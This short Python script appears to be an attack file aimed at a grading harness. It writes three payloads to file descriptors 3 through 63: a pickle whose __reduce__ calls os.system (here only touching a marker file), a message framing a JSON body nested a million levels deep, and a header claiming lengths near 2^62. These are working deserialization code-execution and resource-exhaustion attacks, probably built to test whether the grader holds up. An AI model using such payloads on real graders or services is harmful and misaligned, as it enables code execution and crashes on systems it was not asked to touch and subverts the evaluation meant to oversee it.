"""Sends the grader pickles, endless lengths and JSON nested a million deep."""

# attacks: optimizer.plain

import contextlib
import os
import pickle
import struct

from wrong import *  # noqa: F403


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-payload-ran",)


deep = b"result 1\n" + b'{"dict":{"a":' * 1_000_000
for fd in range(3, 64):
    for data in (
        struct.pack("!4sQQ", b"mgd1", len(deep), 0) + deep,
        struct.pack("!4sQQ", b"mgd1", 1 << 62, 1 << 62),
        pickle.dumps(Payload()),
    ):
        with contextlib.suppress(OSError):
            os.set_blocking(fd, False)
            os.write(fd, data)
